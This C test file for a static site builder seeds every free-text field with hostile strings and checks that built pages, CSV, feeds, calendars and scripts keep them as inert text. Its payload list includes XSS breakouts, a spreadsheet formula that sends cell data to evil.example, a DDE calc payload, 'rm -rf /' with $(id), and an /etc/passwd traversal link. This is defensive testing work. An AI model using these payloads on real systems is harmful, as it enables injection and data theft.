/* SPDX-License-Identifier: Apache-2.0 */
/*
 * What people wrote stays text, wherever it stands: a record of each type with something that wants
 * out in every field that its schema leaves free, names of people, places and terms that want out,
 * and every file that a whole build lays out of them is judged by its own rules. A new type, field
 * or output is covered when it is there.
 */
#include "fixture.h"

#include "base/asset.h"
#include "markup/ics.h"
#include "markup/later.h"
#include "markup/lint.h"
#include "markup/xml.h"

#include <regex.h>
#include <time.h>
#include <unistd.h>

enum { BUILD_SECONDS_MAX = 60, FILE_BYTES_MAX = 32 * 1024 * 1024 };

/* Each as long as a title may be, or shorter. */
static const char *const wants_out[] = {
    "</script><script>alert(1)</script></title></style></textarea>",
    "\"><img src=x onerror=alert(1)>\" onfocus=\"alert(1)",
    "' onmouseover='alert(1)' x='",
    "<!-- --!> ]]> <![CDATA[ <?php ?> --> </body></html>",
    "{{{body_html}}} {{>head}} {{#ui}} {{/ui}} {name} {title} %s %n",
    "&lt;script&gt; &#60;b&#62; &amp;lt; &notanentity; &",
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"x\"),\"a\",b",
    "@SUM(1)*cmd|' /C calc'!A0;x,\\n\\;BEGIN:VEVENT",
    "-2+3 `rm -rf /` $(id) ; \\ \\u003c/script\\u003e",
    "javascript:alert(1) [x](javascript:alert(1)) **b** <https://e.example>",
    "R\u043etterdam \u0645\u062f\u064a\u0646\u0629 \u05e2\u05d9\u05e8 \u57ce\u5e02 caf\u00e9",
    "aaaaaaaaaabbbbbbbbbbccccccccccddddddddddeeeeeeeeeeffffffffffgggggggggghhhhhhhhhhiiiiiiiiii"
    "jjjjjjjjjjkkkkkkkkkkllllllllll",
};
enum { WANTS_OUT = sizeof wants_out / sizeof *wants_out };

struct hostile {
	struct fixture fixture;
	json_t *common;
	size_t filled; /* free texts */
};

/* --- a record by its schema --- */

/* What a field with a form of its own takes. */
static const char *const forms[] = {"gender", "ke-mombasa", "en", "KE", "EUR", "2024", "2024-05-02",
    "2024-05-02T10:00Z", "ke-mombasa/news/nobody", "https://e.example/?q=%3Cb%3E&x=1"};

static bool fits(const char *pattern, const char *text)
{
	regex_t r;
	assert_int_equal(regcomp(&r, pattern, REG_EXTENDED | REG_NOSUB), 0);
	bool is = regexec(&r, text, 0, NULL, 0) == 0;
	regfree(&r);
	return is;
}

static json_t *text_value(struct hostile *t, const json_t *schema, const char *bad)
{
	struct str pattern = json_get_text(schema, "pattern"),
		   format = json_get_text(schema, "format");
	if (json_object_get(schema, "const"))
		return json_incref(json_object_get(schema, "const"));
	if (json_object_get(schema, "enum"))
		return json_incref(json_array_get(json_object_get(schema, "enum"), 0));
	if (str_is(format, "partial-date"))
		return json_string("2024-05-02");
	for (size_t i = 0; pattern.len && i < sizeof forms / sizeof *forms; i++)
		if (fits(pattern.ptr, forms[i]))
			return json_string(forms[i]);
	if (pattern.len || format.len)
		return NULL;
	t->filled++;
	return json_string(bad);
}

static json_t *value_of(struct hostile *t, const json_t *schema, const char *bad);

static json_t *object_value(struct hostile *t, const json_t *schema, const char *bad)
{
	json_t *o = json_object(), *part;
	const char *key;
	json_object_foreach(json_object_get(schema, "properties"), key, part)
	{
		json_t *v = value_of(t, part, bad);
		if (v)
			json_object_set_new(o, key, v);
	}
	return o;
}

/* NULL where a field has a form that none of the above has; it is left out. */
static json_t *value_of(struct hostile *t, const json_t *schema, const char *bad)
{
	struct str ref = json_get_text(schema, "$ref"), type;
	if (ref.len)
		return value_of(t,
		    json_object_get(json_object_get(t->common, "$defs"), strrchr(ref.ptr, '/') + 1),
		    bad);
	type = json_get_text(schema, "type");
	if (str_is(type, "string"))
		return text_value(t, schema, bad);
	if (str_is(type, "integer") || str_is(type, "number"))
		return json_integer(json_get_int(schema, "minimum") + 1);
	if (str_is(type, "boolean"))
		return json_true();
	if (str_is(type, "object"))
		return object_value(t, schema, bad);
	json_t *item = value_of(t, json_object_get(schema, "items"), bad);
	return item ? json_pack("[o]", item) : NULL;
}

/* What ties records to others and to their own history has rows in tests/hostile/records.txt. */
static bool is_tied(const char *key)
{
	static const char *const tied[] = {
	    "status", "reason", "previous", "translation", "attachments", "audience", "revision"};
	for (size_t i = 0; i < sizeof tied / sizeof *tied; i++)
		if (strcmp(key, tied[i]) == 0)
			return true;
	return false;
}

static void put_field(struct buf *out, struct hostile *t, const char *key, const json_t *schema,
    const char *id, const char *bad)
{
	json_t *v;
	if (strcmp(key, "id") == 0)
		v = json_string(id);
	else if (strcmp(key, "lang") == 0)
		v = json_string("en");
	else if (strcmp(key, "place") == 0)
		v = json_string("ke-mombasa");
	else
		v = value_of(t, schema, bad);
	if (!v)
		return;
	buf_printf(out, "%s: ", key);
	json_t *in = json_pack("[o]", v);
	size_t from = out->len;
	json_write(out, in, 0);
	/* A lone text is no JSON text for every writer: take it out of its list again. */
	memmove(out->ptr + from, out->ptr + from + 1, out->len - from - 2);
	out->len -= 2;
	out->ptr[out->len] = 0;
	buf_putc(out, '\n');
	json_decref(in);
}

static void write_record(struct hostile *t, const char *type, const json_t *schema, size_t n)
{
	struct buf text = BUF_INIT;
	struct err err = {0};
	char folder[256], path[300], id[32];
	const char *key;
	json_t *part;
	snprintf(id, sizeof id, "x%zu", n);
	snprintf(folder, sizeof folder, "%s/in/ke-mombasa/%s/%s", t->fixture.folder, type, id);
	snprintf(path, sizeof path, "%s/en.md", folder);
	buf_puts(&text, "---\n");
	json_object_foreach(json_object_get(schema, "properties"), key, part)
	{
		if (!is_tied(key))
			put_field(&text, t, key, part, id, wants_out[n]);
	}
	/* The first of each type has no text at all. */
	buf_puts(&text, "revision: 1\n---\n");
	if (n)
		buf_puts(&text, "[a](#nowhere) [b](record:ke-mombasa/news/nobody) "
				"[c](../../../etc/passwd) [d](index.html#x) [e](?q)\n\n");
	if (n)
		buf_printf(&text, "![%s](missing.png) [%s](missing.html)\n\n%s\n", wants_out[n],
		    wants_out[n], wants_out[n]);
	must(file_mkdirs(folder, 0755, &err), &err);
	must(file_write(path, buf_str(&text), 0644, &err), &err);
	buf_release(&text);
	add_record(&t->fixture, path, path + strlen(t->fixture.folder) + strlen("/in/"));
	struct site_item *i = &t->fixture.items[t->fixture.len - 1];
	i->author_name = wants_out[n];
	i->reviewer_name = wants_out[WANTS_OUT - 1 - n];
}

static void write_records(struct hostile *t)
{
	const char *path;
	struct err err = {0};
	must(json_parse(&t->common, asset_get("schemas/common.json"), "common", &err), &err);
	for (size_t i = 0; (path = asset_path("schemas/", i)); i++) {
		struct str name = str_from(path + strlen("schemas/"));
		char type[64];
		json_t *schema;
		if (!str_ends(name, STR(".json")) || str_is(name, "common.json") ||
		    str_is(name, "charter.json") || str_is(name, "roster.json"))
			continue;
		snprintf(type, sizeof type, "%.*s", (int)name.len - 5, name.ptr);
		must(json_parse(&schema, asset_get(path), path, &err), &err);
		for (size_t n = 0; n < WANTS_OUT; n++)
			write_record(t, type, schema, n);
		json_decref(schema);
	}
	t->fixture.source.items = t->fixture.items;
	t->fixture.source.nitems = t->fixture.len;
}

static void spoil_names(json_t *terms)
{
	size_t i;
	json_t *term;
	json_array_foreach(terms, i, term)
	{
		json_object_set_new(
		    term, "names", json_pack("{s:s}", "en", wants_out[i % WANTS_OUT]));
	}
}

static int setup(void **state)
{
	struct hostile *t = *state = mem_alloc(sizeof *t);
	fixture_open(&t->fixture, golden_in);
	json_t *charter = t->fixture.charter;
	static const char *const vocabularies[] = {
	    "themes", "regions", "audiences", "needs", "objectives"};
	for (size_t i = 0; i < sizeof vocabularies / sizeof *vocabularies; i++)
		spoil_names(json_object_get(charter, vocabularies[i]));
	json_object_set_new(charter, "name", json_string(wants_out[0]));
	json_object_set_new(charter, "site", json_string("https://cities.example/hub"));
	json_object_set_new(charter, "contact", json_string("desk@cities.example"));
	json_object_set_new(json_object_get(t->fixture.places, "ke-mombasa"), "names",
	    json_pack("{s:s, s:s}", "en", wants_out[0], "fr", wants_out[1]));
	write_records(t);
	return 0;
}

static int teardown(void **state)
{
	struct hostile *t = *state;
	json_decref(t->common);
	return fixture_teardown(state);
}

/* --- what comes of it --- */

static size_t judged[8];
enum { PAGES, DATA, SHEETS, FEEDS, CALENDARS, SCRIPTS };

static void none_of(const char *path, const char *text, const char *what)
{
	if (strcasestr(text, what))
		fail_msg("%s has %s: %.80s", path, what, strcasestr(text, what));
}

static void judge_data(const char *path, struct str text)
{
	struct err err = {0};
	json_t *v;
	must(json_parse(&v, text, path, &err), &err);
	json_decref(v);
	judged[DATA]++;
}

/* The linter knows scripts only as data, but for one: here that data is read, and is all that was
 * meant. */
static void judge_page(const char *path, struct str html)
{
	static const char begin[] = "<script type=\"application/ld+json\">", end[] = "</script>";
	struct err err = {0};
	must(html_lint(html, LINT_PAGE, path, NULL, &err), &err);
	for (const char *p = html.ptr; (p = strstr(p, "<script"));) {
		if (strncmp(p, begin, strlen(begin)) == 0) {
			p += strlen(begin);
			const char *to = strstr(p, end);
			assert_non_null(to);
			judge_data(path, str_of(p, (size_t)(to - p)));
		} else if (strncmp(p, "<script src=\"", 13) != 0 &&
			   strncmp(p, "<script defer src=\"", 19) != 0 &&
			   (strncmp(p, "<script>", 8) != 0 ||
			       !str_starts(str_from(p + 8), later_script()))) {
			fail_msg("%s has a script: %.80s", path, p);
		}
		p++;
	}
	static const char *const no[] = {"<img", "<svg/", "<iframe", "href=\"javascript",
	    "href=\"data:", "src=\"http", "<!--", "<?"};
	for (size_t i = 0; i < sizeof no / sizeof *no; i++)
		none_of(path, html.ptr, no[i]);
	judged[PAGES]++;
}

/* Rows of as many fields as the first, and none that a spreadsheet takes for a formula. */
static void judge_sheet(const char *path, struct str csv)
{
	size_t columns = 0, column = 0;
	bool is_quoted = false, begins = true;
	for (size_t i = 0; i < csv.len; i++) {
		char c = csv.ptr[i];
		if (begins && !is_quoted && c == '"') {
			is_quoted = true;
			if (i + 1 < csv.len && strchr("=+-@", csv.ptr[i + 1]) && csv.ptr[i + 1])
				fail_msg("%s: a formula: %.60s", path, csv.ptr + i);
			begins = false;
			continue;
		}
		if (begins && strchr("=+-@", c) && c)
			fail_msg("%s: a formula: %.60s", path, csv.ptr + i);
		begins = false;
		if (is_quoted && c == '"' && i + 1 < csv.len && csv.ptr[i + 1] == '"')
			i++;
		else if (c == '"')
			is_quoted = false;
		else if (!is_quoted && (c == ',' || c == '\n')) {
			column++;
			begins = true;
			if (c == '\n') {
				columns = columns ? columns : column;
				if (column != columns)
					fail_msg("%s: a row of %zu fields, not %zu", path, column,
					    columns);
				column = 0;
			}
		}
	}
	assert_false(is_quoted);
	assert_true(columns > 3);
	judged[SHEETS]++;
}

static void judge_feed(const char *path, struct str xml)
{
	const char *at = memmem(xml.ptr, xml.len, "?>", 2), *root = at ? strchr(at, '<') : NULL;
	char name[32] = "";
	struct err err = {0};
	assert_non_null(root);
	snprintf(name, sizeof name, "%.*s", (int)strcspn(root + 1, " >\n"), root + 1);
	must(xml_check(xml, name, path, &err), &err);
	none_of(path, xml.ptr, "<script");
	none_of(path, xml.ptr, "<img");
	judged[FEEDS]++;
}

/* One call with data, and no page has it inside; the scripts put it in pages as text alone. */
static void judge_script(const char *path, struct str js)
{
	static const char call[] = "belfrySearch(";
	struct buf list = BUF_INIT;
	if (!strstr(path, "/search/")) { /* the program's own, which nobody else wrote in */
		none_of(path, js.ptr, "innerHTML");
		none_of(path, js.ptr, "alert(1)");
		return;
	}
	js = str_trim(js);
	assert_true(str_starts(js, str_of(call, strlen(call))));
	while (js.len && js.ptr[js.len - 1] != ')')
		js.len--;
	buf_printf(&list, "[%.*s]", (int)(js.len - strlen(call)) - 1, js.ptr + strlen(call));
	judge_data(path, buf_str(&list));
	buf_release(&list);
	judged[SCRIPTS]++;
}

static void judge(const char *path)
{
	struct buf b = BUF_INIT;
	struct err err = {0};
	struct str name = str_from(path);
	must(file_read(&b, path, FILE_BYTES_MAX, &err), &err);
	if (str_ends(name, STR(".html")))
		judge_page(path, buf_str(&b));
	else if (str_ends(name, STR(".json")))
		judge_data(path, buf_str(&b));
	else if (str_ends(name, STR(".csv")))
		judge_sheet(path, buf_str(&b));
	else if (str_ends(name, STR(".xml")))
		judge_feed(path, buf_str(&b));
	else if (str_ends(name, STR(".ics"))) {
		must(ics_check(buf_str(&b), path, &err), &err);
		judged[CALENDARS]++;
	} else if (str_ends(name, STR(".js"))) {
		judge_script(path, buf_str(&b));
	}
	buf_release(&b);
}

static int judge_one(const char *path, const struct stat *st, int kind, struct FTW *at)
{
	(void)st, (void)at;
	if (kind == FTW_F)
		judge(path);
	return 0;
}

static void everything_stays_text(void **state)
{
	struct hostile *t = *state;
	struct site_options o = {.out = t->fixture.out, .has_no_compressed = true};
	struct site_report report;
	struct err err = {0};
	char tree[128];
	time_t began = time(NULL);
	assert_true(t->fixture.len > 18 * WANTS_OUT);
	assert_true(t->filled > 18 * 3 * WANTS_OUT);
	must(site_build(&t->fixture.source, &o, &report, &err), &err);
	assert_true(time(NULL) - began < BUILD_SECONDS_MAX);
	assert_int_equal(report.skipped, 0);
	if (report.notes.len && strstr(report.notes.ptr, "not shown"))
		fail_msg("%s", report.notes.ptr);
	site_report_release(&report);
	snprintf(tree, sizeof tree, "%s.d/a", t->fixture.out);
	assert_int_equal(nftw(tree, judge_one, 16, FTW_PHYS), 0);
	assert_true(judged[PAGES] > 2 * 18 * WANTS_OUT);
	assert_true(judged[DATA] > 18 * WANTS_OUT);
	assert_true(judged[SHEETS] && judged[FEEDS] && judged[CALENDARS] && judged[SCRIPTS]);
	printf("%zu records, %zu free texts; pages %zu, data %zu, sheets %zu, feeds %zu, calendars "
	       "%zu, scripts %zu\n",
	    t->fixture.len, t->filled, judged[PAGES], judged[DATA], judged[SHEETS], judged[FEEDS],
	    judged[CALENDARS], judged[SCRIPTS]);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test_setup_teardown(everything_stays_text, setup, teardown),
	};
	hash_init();
	return cmocka_run_group_tests(tests, NULL, NULL);
}
